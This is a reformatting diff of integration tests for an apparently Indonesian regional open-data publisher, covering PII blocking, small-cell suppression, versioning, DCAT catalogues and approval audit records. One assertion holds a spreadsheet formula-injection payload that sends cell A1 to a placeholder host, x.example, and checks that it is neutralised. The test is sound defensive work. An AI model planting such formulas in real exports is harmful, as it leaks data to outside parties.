@@ -31,8 +31,10 @@ from tests.conftest import make_settings, run_cli
 pytestmark = pytest.mark.integration
 
 FRICTIONLESS = Path(sys.executable).parent / "frictionless"
-WILAYAH = ("'18' as kode_provinsi, 'LAMPUNG' as nama_provinsi, '1872' as kode_kabupaten_kota, "
-           "'KOTA METRO' as nama_kabupaten_kota")
+WILAYAH = (
+    "'18' as kode_provinsi, 'LAMPUNG' as nama_provinsi, '1872' as kode_kabupaten_kota, "
+    "'KOTA METRO' as nama_kabupaten_kota"
+)
 DINKES = "1.02.0.00.0.00.01.0000"
 
 SERAPAN = f"""
@@ -78,37 +80,80 @@ from (values
 """
 META = {
     "marts.pub_serapan_anggaran": {
-        "dataset_id": "serapan_anggaran", "judul": "Persentase Serapan Anggaran Belanja",
+        "dataset_id": "serapan_anggaran",
+        "judul": "Persentase Serapan Anggaran Belanja",
         "deskripsi": "Realisasi belanja kumulatif dibagi pagu per perangkat daerah dan jenis belanja.",
-        "produsen_data": "BPKAD", "frekuensi": "Bulanan", "satuan": "PERSEN", "person_based": False,
+        "produsen_data": "BPKAD",
+        "frekuensi": "Bulanan",
+        "satuan": "PERSEN",
+        "person_based": False,
         "primary_key": ["kode_kabupaten_kota", "kode_opd", "kode_jenis_belanja", "bulan", "tahun"],
-        "source_datasets": ["anggaran", "realisasi_belanja"], "measure": "persentase_serapan"},
+        "source_datasets": ["anggaran", "realisasi_belanja"],
+        "measure": "persentase_serapan",
+    },
     "marts.pub_asn_jumlah": {
-        "dataset_id": "asn_jumlah", "judul": "Jumlah ASN", "deskripsi": "Jumlah ASN per perangkat daerah.",
-        "produsen_data": "BKPSDM", "frekuensi": "Bulanan", "satuan": "ORANG", "person_based": True,
+        "dataset_id": "asn_jumlah",
+        "judul": "Jumlah ASN",
+        "deskripsi": "Jumlah ASN per perangkat daerah.",
+        "produsen_data": "BKPSDM",
+        "frekuensi": "Bulanan",
+        "satuan": "ORANG",
+        "person_based": True,
         "primary_key": ["kode_kabupaten_kota", "kode_opd", "periode", "status_kepegawaian", "jenis_kelamin"],
-        "source_datasets": ["pegawai"], "measure": "jumlah_pegawai"},
+        "source_datasets": ["pegawai"],
+        "measure": "jumlah_pegawai",
+    },
     "marts.pub_ikm_layanan": {
-        "dataset_id": "ikm_layanan", "judul": "Indeks Kepuasan Masyarakat", "deskripsi": "IKM per layanan.",
-        "produsen_data": "Perangkat daerah penyelenggara layanan", "frekuensi": "Semesteran",
-        "satuan": "INDEKS", "person_based": False,
+        "dataset_id": "ikm_layanan",
+        "judul": "Indeks Kepuasan Masyarakat",
+        "deskripsi": "IKM per layanan.",
+        "produsen_data": "Perangkat daerah penyelenggara layanan",
+        "frekuensi": "Semesteran",
+        "satuan": "INDEKS",
+        "person_based": False,
         "primary_key": ["kode_kabupaten_kota", "kode_opd", "kode_layanan", "semester", "tahun"],
-        "source_datasets": ["survei_kepuasan"], "measure": "ikm"},
+        "source_datasets": ["survei_kepuasan"],
+        "measure": "ikm",
+    },
     "marts.pub_distribusi_skp": {
-        "dataset_id": "distribusi_skp", "judul": "Distribusi Predikat SKP", "deskripsi": "SKP per OPD.",
-        "produsen_data": "BKPSDM", "frekuensi": "Tahunan", "satuan": "ORANG", "person_based": True,
+        "dataset_id": "distribusi_skp",
+        "judul": "Distribusi Predikat SKP",
+        "deskripsi": "SKP per OPD.",
+        "produsen_data": "BKPSDM",
+        "frekuensi": "Tahunan",
+        "satuan": "ORANG",
+        "person_based": True,
         "primary_key": ["kode_kabupaten_kota", "kode_opd", "predikat", "tahun"],
-        "source_datasets": ["kinerja_pegawai"], "measure": "jumlah_pegawai"},
+        "source_datasets": ["kinerja_pegawai"],
+        "measure": "jumlah_pegawai",
+    },
 }
-COLUMN_DOCS = {"kode_kabupaten_kota": "Kode kabupaten/kota BPS (4 digit, teks).",
-               "persentase_serapan": "MEASURE. Realisasi kumulatif / pagu x 100.",
-               "jumlah_pegawai": "MEASURE. Jumlah ASN."}
-SECTION_6_FIELDS = {"judul", "deskripsi", "produsen_data", "walidata", "kode_wilayah", "cakupan", "frekuensi",
-                    "satuan", "periode", "lisensi", "kontak", "tanggal_rilis", "versi", "validasi"}
+COLUMN_DOCS = {
+    "kode_kabupaten_kota": "Kode kabupaten/kota BPS (4 digit, teks).",
+    "persentase_serapan": "MEASURE. Realisasi kumulatif / pagu x 100.",
+    "jumlah_pegawai": "MEASURE. Jumlah ASN.",
+}
+SECTION_6_FIELDS = {
+    "judul",
+    "deskripsi",
+    "produsen_data",
+    "walidata",
+    "kode_wilayah",
+    "cakupan",
+    "frekuensi",
+    "satuan",
+    "periode",
+    "lisensi",
+    "kontak",
+    "tanggal_rilis",
+    "versi",
+    "validasi",
+}
 VALIDATION = {"status": "passed", "checks": 3, "failed_checks": 0, "warnings": []}
 
 
 # ------------------------------------------------------------------------------------- helpers
+
 
 def create_marts(url: str, *ddl: str) -> None:
     migrate(url)
@@ -120,8 +165,12 @@ def create_marts(url: str, *ddl: str) -> None:
 
 def pub(table: str) -> dict:
     """One entry the way `satudata.transform.publications` gives it."""
-    return {"meta": META[table], "description": META[table]["deskripsi"], "columns": dict(COLUMN_DOCS),
-            "unique_id": f"model.satudata.{table.split('.')[1]}"}
+    return {
+        "meta": META[table],
+        "description": META[table]["deskripsi"],
+        "columns": dict(COLUMN_DOCS),
+        "unique_id": f"model.satudata.{table.split('.')[1]}",
+    }
 
 
 def with_manifest(settings: Settings, root: Path, tables: list[str]) -> Settings:
@@ -130,9 +179,14 @@ def with_manifest(settings: Settings, root: Path, tables: list[str]) -> Settings
     for table in tables:
         schema, name = table.split(".")
         nodes[f"model.satudata.{name}"] = {
-            "resource_type": "model", "name": name, "schema": schema, "unique_id": f"model.satudata.{name}",
-            "description": META[table]["deskripsi"], "config": {"meta": META[table]},
-            "columns": {c: {"description": d} for c, d in COLUMN_DOCS.items()}}
+            "resource_type": "model",
+            "name": name,
+            "schema": schema,
+            "unique_id": f"model.satudata.{name}",
+            "description": META[table]["deskripsi"],
+            "config": {"meta": META[table]},
+            "columns": {c: {"description": d} for c, d in COLUMN_DOCS.items()},
+        }
     target = root / "dbt_project" / "target"
     target.mkdir(parents=True, exist_ok=True)
     (target / "manifest.json").write_text(json.dumps({"nodes": nodes}))
@@ -145,8 +199,9 @@ def publish(settings: Settings, url: str, table: str, run_id: str = "run-1") -> 
 
 def frictionless_validate(package: Path) -> tuple[int, dict]:
     """The real `frictionless validate` CLI on one datapackage.json: exit code and JSON report."""
-    proc = subprocess.run([str(FRICTIONLESS), "validate", "--json", str(package)], capture_output=True,
-                          text=True, timeout=120)
+    proc = subprocess.run(
+        [str(FRICTIONLESS), "validate", "--json", str(package)], capture_output=True, text=True, timeout=120
+    )
     return proc.returncode, json.loads(proc.stdout)
 
 
@@ -164,6 +219,7 @@ def settings(tmp_path, warehouse_url) -> Settings:
 
 
 # --------------------------------------------------------------------------------------- tests
+
 
 def test_planted_nip_nik_and_name_block_that_dataset_and_the_others_publish(settings, tmp_path):
     # Given four marts, one of which leaks a NIP, a NIK and employees' names
@@ -191,7 +247,8 @@ def test_planted_nip_nik_and_name_block_that_dataset_and_the_others_publish(sett
     with psycopg.connect(url) as conn:
         status, row_reasons = conn.execute(
             "select status, reasons from audit.publication where run_id = %s and dataset_id = 'distribusi_skp'",
-            (run_id,)).fetchone()
+            (run_id,),
+        ).fetchone()
     assert status == "blocked" and any("PII-001" in r for r in row_reasons)
     # ... and the other three are published, each package accepted by `frictionless validate`
     for dataset_id in ("serapan_anggaran", "asn_jumlah", "ikm_layanan"):
@@ -201,8 +258,11 @@ def test_planted_nip_nik_and_name_block_that_dataset_and_the_others_publish(sett
     # ... and the public page and the DCAT catalogue list exactly those
     assert set(catalog(s)) == {"serapan_anggaran", "asn_jumlah", "ikm_layanan"}
     jsonld = json.loads((s.published / "catalog.jsonld").read_text())
-    assert sorted(d["dct:identifier"] for d in jsonld["dcat:dataset"]) == ["asn_jumlah", "ikm_layanan",
-                                                                           "serapan_anggaran"]
+    assert sorted(d["dct:identifier"] for d in jsonld["dcat:dataset"]) == [
+        "asn_jumlah",
+        "ikm_layanan",
+        "serapan_anggaran",
+    ]
     page = (s.published / "index.html").read_text()
     assert "Distribusi Predikat SKP" in page  # listed as not yet available, without its data
     assert "Budi" not in page
@@ -217,8 +277,11 @@ def test_rerun_unchanged_gives_no_new_version_changed_gives_one_and_revert_resto
     v1_csv = (settings.published / "serapan_anggaran" / "v1" / "data.csv").read_bytes()
 
     # When the same run is retried (e.g. Airflow retries the task), Then it still reports what it published
-    assert publish(settings, url, table, "run-1") == {**publish(settings, url, table, "run-1"),
-                                                      "status": "published", "version": "v1"}
+    assert publish(settings, url, table, "run-1") == {
+        **publish(settings, url, table, "run-1"),
+        "status": "published",
+        "version": "v1",
+    }
 
     # When the run is repeated on unchanged data, Then there is no new version
     again = publish(settings, url, table, "run-2")
@@ -242,8 +305,10 @@ def test_rerun_unchanged_gives_no_new_version_changed_gives_one_and_revert_resto
     assert catalog(settings)["serapan_anggaran"]["version"] == "v1"
     assert catalog(settings)["serapan_anggaran"]["reverted_from"] == "v2"
     with psycopg.connect(url) as conn:
-        row = conn.execute("select status, version, actor, reasons from audit.publication "
-                           "where dataset_id = 'serapan_anggaran' and status = 'reverted'").fetchone()
+        row = conn.execute(
+            "select status, version, actor, reasons from audit.publication "
+            "where dataset_id = 'serapan_anggaran' and status = 'reverted'"
+        ).fetchone()
     assert row[:3] == ("reverted", "v1", "ppid.kota")
     assert "reverted from v2 to v1 by ppid.kota: angka salah" in row[3][0]
     history = json.loads((settings.published / "serapan_anggaran" / "versions.json").read_text())
@@ -300,18 +365,23 @@ def test_person_based_small_cells_are_suppressed_by_the_publisher_and_stated(set
     folder = settings.published / "asn_jumlah" / "v1"
     rows = list(csv.DictReader(io.StringIO((folder / "data.csv").read_text())))
     by_key = {(r["periode"], r["status_kepegawaian"], r["jenis_kelamin"]): r for r in rows}
-    assert by_key[("2024-01", "PNS", "P")]["jumlah_pegawai"] == "" and by_key[("2024-01", "PNS", "P")][
-        "disupresi"] == "true"
+    assert (
+        by_key[("2024-01", "PNS", "P")]["jumlah_pegawai"] == ""
+        and by_key[("2024-01", "PNS", "P")]["disupresi"] == "true"
+    )
     assert by_key[("2024-01", "PPPK", "P")]["jumlah_pegawai"] == ""
-    assert by_key[("2024-01", "PNS", "L")]["jumlah_pegawai"] == "12" and by_key[("2024-01", "PNS", "L")][
-        "disupresi"] == "false"
+    assert (
+        by_key[("2024-01", "PNS", "L")]["jumlah_pegawai"] == "12"
+        and by_key[("2024-01", "PNS", "L")]["disupresi"] == "false"
+    )
     # ... and the metadata and the Table Schema say so
     md = json.loads((folder / "metadata.json").read_text())
     assert md["supresi_sel_kecil"]["diterapkan"] is True and md["supresi_sel_kecil"]["ambang"] == 5
     assert md["supresi_sel_kecil"]["jumlah_baris_disupresi"] == 2
     assert "di bawah 5" in md["supresi_sel_kecil"]["keterangan"]
-    fields = {f["name"]: f for f in json.loads((folder / "datapackage.json").read_text())["resources"][0][
-        "schema"]["fields"]}
+    fields = {
+        f["name"]: f for f in json.loads((folder / "datapackage.json").read_text())["resources"][0]["schema"]["fields"]
+    }
     assert "disupresi" in fields["jumlah_pegawai"]["description"] and fields["disupresi"]["type"] == "boolean"
 
     # When the threshold is switched off (SATUDATA_SMALL_CELL=0), Then the count of one person blocks it
@@ -336,14 +406,17 @@ def test_release_files_follow_the_standard_and_pass_frictionless(settings):
     assert text.splitlines()[0].startswith("kode_provinsi,nama_provinsi,kode_kabupaten_kota")
     assert [r["realisasi_bulan"] for r in rows if r["kode_opd"] == DINKES] == ["105000.00", "147500.00", "-12500.50"]
     # ... and the formula is neutralised with a leading quote
-    assert [r["nama_opd"] for r in rows if r["kode_opd"] != DINKES] == ["'=HYPERLINK(\"http://x.example/?\"&A1,\"klik\")"]
+    assert [r["nama_opd"] for r in rows if r["kode_opd"] != DINKES] == ['\'=HYPERLINK("http://x.example/?"&A1,"klik")']
     # ... the Table Schema has types, primary key, units and descriptions
     package = json.loads((folder / "datapackage.json").read_text())
     schema = package["resources"][0]["schema"]
     fields = {f["name"]: f for f in schema["fields"]}
     assert schema["primaryKey"] == META["marts.pub_serapan_anggaran"]["primary_key"]
     assert (fields["bulan"]["type"], fields["persentase_serapan"]["type"], fields["kode_opd"]["type"]) == (
-        "integer", "number", "string")
+        "integer",
+        "number",
+        "string",
+    )
     assert fields["persentase_serapan"]["unit"] == "PERSEN" and fields["pagu"]["unit"] == "RUPIAH"
     assert fields["kode_kabupaten_kota"]["description"].startswith("Kode kabupaten/kota BPS")
     assert package["resources"][0]["hash"] == "sha256:" + hashlib.sha256((folder / "data.csv").read_bytes()).hexdigest()
@@ -351,7 +424,12 @@ def test_release_files_follow_the_standard_and_pass_frictionless(settings):
     md = json.loads((folder / "metadata.json").read_text())
     assert SECTION_6_FIELDS <= set(md)
     assert (md["lisensi"], md["versi"], md["kode_wilayah"], md["cakupan"], md["periode"]) == (
-        "CC-BY-4.0", "v1", ["1872"], ["KOTA METRO"], [2024])
+        "CC-BY-4.0",
+        "v1",
+        ["1872"],
+        ["KOTA METRO"],
+        [2024],
+    )
     assert (md["periode_awal"], md["periode_akhir"]) == ("2024-01-01", "2024-03-31")
     assert md["validasi"]["status"] == "passed" and md["validasi"]["pemeriksaan_data_pribadi"]["status"] == "lolos"
     # ... and the real frictionless CLI and API accept the package
@@ -379,8 +457,18 @@ def test_the_dcat_catalogue_describes_every_current_dataset(settings):
     datasets = {d["dct:identifier"]: d for d in doc["dcat:dataset"]}
     assert set(datasets) == {"serapan_anggaran", "ikm_layanan"}
     ikm = datasets["ikm_layanan"]
-    for key in ("dct:title", "dct:description", "dct:publisher", "dct:license", "dct:issued", "dct:modified",
-                "dct:spatial", "dct:temporal", "dct:accrualPeriodicity", "dcat:distribution"):
+    for key in (
+        "dct:title",
+        "dct:description",
+        "dct:publisher",
+        "dct:license",
+        "dct:issued",
+        "dct:modified",
+        "dct:spatial",
+        "dct:temporal",
+        "dct:accrualPeriodicity",
+        "dcat:distribution",
+    ):
         assert key in ikm, key
     assert ikm["@type"] == "dcat:Dataset" and ikm["dcat:version"] == "v1"
     assert ikm["dct:spatial"][0]["dct:identifier"] == "1872"
@@ -401,23 +489,36 @@ def test_ppid_sign_off_is_recorded_with_who_and_when(settings):
     url = settings.require_url()
     create_marts(url, IKM)
     answered = datetime(2024, 10, 1, 3, 4, 5, tzinfo=UTC)
-    event = {"chosen_options": ["Approve"], "params_input": {}, "responded_at": answered,
-             "responded_by_user": {"id": "7", "name": "ppid.kota"}, "timedout": False}
+    event = {
+        "chosen_options": ["Approve"],
+        "params_input": {},
+        "responded_at": answered,
+        "responded_by_user": {"id": "7", "name": "ppid.kota"},
+        "timedout": False,
+    }
 
     # When the answer is recorded and the run publishes
     approval.record(url, "run-hitl", event, "manual__2024-10-01")
     publish(settings, url, "marts.pub_ikm_layanan", "run-hitl")
     with psycopg.connect(url, autocommit=True) as conn:
-        conn.execute("insert into audit.publication (run_id, dataset_id, status, version) "
-                     "values ('run-hitl', 'ikm_layanan', 'published', 'v1')")
-        signed = conn.execute("select dataset_id, ppid_decision, approved_by, approved_at, approval_method "
-                              "from audit.publication_signed where run_id = 'run-hitl'").fetchone()
+        conn.execute(
+            "insert into audit.publication (run_id, dataset_id, status, version) "
+            "values ('run-hitl', 'ikm_layanan', 'published', 'v1')"
+        )
+        signed = conn.execute(
+            "select dataset_id, ppid_decision, approved_by, approved_at, approval_method "
+            "from audit.publication_signed where run_id = 'run-hitl'"
+        ).fetchone()
 
     # Then the audit schema says who approved, when and how, and so does the release metadata
     assert signed == ("ikm_layanan", "Approve", "ppid.kota", answered, "hitl")
     md = json.loads((settings.published / "ikm_layanan" / "v1" / "metadata.json").read_text())
-    assert md["persetujuan_ppid"] == {"keputusan": "Approve", "oleh": "ppid.kota",
-                                      "pada": answered.isoformat(), "metode": "hitl"}
+    assert md["persetujuan_ppid"] == {
+        "keputusan": "Approve",
+        "oleh": "ppid.kota",
+        "pada": answered.isoformat(),
+        "metode": "hitl",
+    }
 
     # And the auto-approve setting (demo, CI) is recorded as such, distinguishable from a person
     auto = approval.auto_response(dataclasses.replace(settings, auto_approve=True))
